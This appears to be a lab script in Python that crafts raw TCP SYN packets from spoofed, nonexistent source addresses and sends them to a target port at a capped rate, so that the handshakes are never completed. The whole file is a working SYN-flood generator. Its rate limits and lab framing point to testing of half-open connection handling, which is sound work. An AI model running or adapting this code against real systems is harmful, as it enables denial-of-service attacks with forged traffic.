"""Raw SYNs from addresses that do not exist, so that their handshakes are never completed (raw(7), tcp(7)).
usage: syn.py ADDRESS PORT PER_SECOND SECONDS, to be run inside a namespace of the lab; prints how many were sent."""
import random
import socket
import struct
import sys
import time

address, port, per_second, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
if not (per_second <= 2000 and seconds <= 10):
    sys.exit("at most 2000 a second for 10 s")


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source, target, source_port, target_port):
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    options = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", source_port, target_port, random.getrandbits(32), 0, 6 << 4, 2, 64240, 0, 0) + options
    tcp = tcp[:16] + struct.pack("!H", checksum(ends + struct.pack("!HH", 6, len(tcp)) + tcp)) + tcp[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0) + ends + tcp


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
begun, count = time.monotonic(), int(per_second * seconds)
for number in range(count):
    pause = begun + number / per_second - time.monotonic()
    if pause > 0:
        time.sleep(pause)
    source = f"172.31.{number >> 8 & 255}.{number & 255}"
    raw.sendto(syn(source, address, 1024 + number % 60000, port), (address, 0))
print(count, flush=True)
